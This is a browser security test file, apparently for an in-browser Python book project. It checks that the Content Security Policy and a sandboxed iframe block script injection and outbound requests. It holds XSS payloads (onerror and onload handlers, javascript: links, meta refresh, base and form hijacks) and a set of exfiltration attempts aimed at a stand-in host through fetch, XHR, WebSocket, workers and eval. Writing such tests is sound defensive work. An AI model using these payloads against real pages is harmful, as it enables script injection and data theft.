"""The policy at work: the browser refuses what the build did not write, and every other host.

What is asked of another host is asked of a server that counts: whatever a script is told, the
server knows what has reached it.
"""

import http.server
import threading

import pytest
from bookwork.testing.cells import cell, run, write
from bookwork.testing.pages import check_faults, watched
from browser.cells import CHAPTER
from playwright.sync_api import expect

pytestmark = pytest.mark.python

INJECT = """() => {
  const script = document.createElement("script");
  script.textContent = "window.injected = true";
  document.body.append(script);
  const text = document.createElement("div");
  text.innerHTML = "<b onclick='window.injected = true'>b</b>";
  document.body.append(text);
  text.firstChild.click();
  return window.injected === true;
}"""
RUN = """async (code) => {
  window.python ??= window.bookCells.makePython({});
  const values = [];
  const onOutput = ({ bundle, text }) => values.push(bundle ?? text);
  return { ...(await window.python.run("cell 1", code, { limit: 600_000, onOutput })), values };
}"""
# every way out of a worker that JavaScript knows: those that raise, and those that fail later
FROM_PYTHON = """
import js
from pyodide.ffi import to_js
from pyodide.http import open_url

def blob(text):
    kind = js.Object.fromEntries(to_js([["type", "text/javascript"]]))
    return js.URL.createObjectURL(js.Blob.new(to_js([text]), kind))

def request():
    asked = js.XMLHttpRequest.new()
    asked.open("GET", "http://HOST/xhr", False)
    asked.send()

def module():
    js.Worker.new(blob("import 'http://HOST/module'; fetch('http://HOST/in-module')"))

ways = {
    "request": request,
    "open_url": lambda: open_url("http://HOST/open_url"),
    "importScripts": lambda: js.importScripts("http://HOST/scripts"),
    "worker": lambda: js.Worker.new("http://HOST/worker"),
    "worker of our own": lambda: js.Worker.new(js.location.origin + "/python-worker.js"),
    "module": module,
    "eval": lambda: js.eval("fetch('http://HOST/eval')"),
    "urllib": lambda: __import__("urllib.request").request.urlopen("http://HOST/urllib"),
}
silent = {
    "fetch": lambda: js.fetch("http://HOST/fetch"),
    "socket": lambda: js.WebSocket.new("ws://HOST/socket"),
    "events": lambda: js.EventSource.new("http://HOST/events"),
    "font": lambda: js.FontFace.new("f", "url(http://HOST/font)").load(),
}
allowed = []
for name, way in ways.items():
    try:
        way()
    except Exception:
        continue
    allowed.append(name)
for way in silent.values():
    way()
allowed
"""


class Elsewhere(http.server.BaseHTTPRequestHandler):
    """Another host, which answers everyone and remembers what was asked."""

    def do_GET(self):
        self.server.asked.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/javascript")
        self.end_headers()

    do_POST = do_OPTIONS = do_GET  # noqa: N815  so they are called

    def log_message(self, *_):
        pass


@pytest.fixture
def elsewhere():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere)
    server.asked = []
    server.address = f"127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join()


def test_no_injected_script_runs(page, server):
    page.goto(f"{server}/search.html")
    page.evaluate("window.bookWidgets.ready")
    page.forgiven.append("Content Security Policy")
    with page.expect_console_message(lambda message: "Content Security Policy" in message.text):
        assert page.evaluate(INJECT) is False


def test_what_code_shows_is_only_looked_at_and_no_code_reaches_another_host(
    window, server, elsewhere
):
    page = watched(window().new_page(), server)
    page.forgiven += ["Content Security Policy", "sandbox", elsewhere.address]
    page.goto(f"{server}/{CHAPTER}")
    page.evaluate("window.stayed = true")
    check_html_and_markdown_can_be_looked_at_and_no_more(page, server, elsewhere)
    check_faults(page)
    # no code of the readers reaches another host
    asked = page.evaluate(RUN, FROM_PYTHON.replace("HOST", elsewhere.address))
    assert asked["error"] is None
    assert asked["values"][-1]["text/plain"] == "[]"
    own = page.evaluate(RUN, "len(open_url(js.location.origin + '/').read()) > 0")
    assert own["values"][-1]["text/plain"] == "True"  # so what was refused was refused for its host
    assert elsewhere.asked == []
    assert page.evaluate("[window.stayed, window.injected]") == [True, None]


HOSTILE = (
    "<p>what follows belongs to the body</p>"
    "<meta http-equiv=refresh content='0;url=http://HOST/refresh'><base href='http://HOST/'>"
    "<form action='http://HOST/form' target=_top><button>send</button></form>"
    "<iframe src='http://HOST/frame'></iframe><object data='http://HOST/object'></object>"
    "<link rel=stylesheet href='http://HOST/link'><script>top.injected = 1</script>"
    "<a href='javascript:top.injected = 1'>run</a> <a href='SERVER/search.html'>beside</a>"
    "<img src='data:image/png,' onerror='top.injected = 1'>"
    "<img srcset='http://HOST/srcset 2x' src='http://HOST/src'>"
    "<style>@import 'http://HOST/import'; p { background: url(http://HOST/url) }</style>"
    "<svg onload='top.injected = 1'><use href='http://HOST/use#x'/></svg>"
)
WORDS = "**strong** [to](javascript:top.injected=1) ![picture](http://HOST/picture)\n\n"


def check_html_and_markdown_can_be_looked_at_and_no_more(page, server, elsewhere):
    html = HOSTILE.replace("HOST", elsewhere.address).replace("SERVER", server)
    words = WORDS.replace("HOST", elsewhere.address) + html
    show = f"from IPython.display import *\ndisplay(HTML({html!r}), Markdown({words!r}))"
    write(page, 1, show)
    assert run(page, 1).startswith("Done")
    frame = page.locator("iframe.book-frame")
    assert frame.get_attribute("sandbox") == "allow-popups allow-popups-to-escape-sandbox"
    inside = frame.content_frame
    inside.get_by_role("button", name="send").click()
    inside.get_by_role("link", name="run").click()
    with page.expect_popup() as beside:
        inside.get_by_role("link", name="beside", exact=True).click()
    assert beside.value.evaluate("window.opener") is None
    expect(inside.locator("p")).to_have_text("what follows belongs to the body")
    text = cell(page, 1).locator(".book-text")
    expect(text.locator("strong")).to_have_text("strong")
    expect(text).to_contain_text("<meta http-equiv=refresh")
    expect(text.locator("img, form, script, style, svg, a[href^=javascript]")).to_have_count(0)
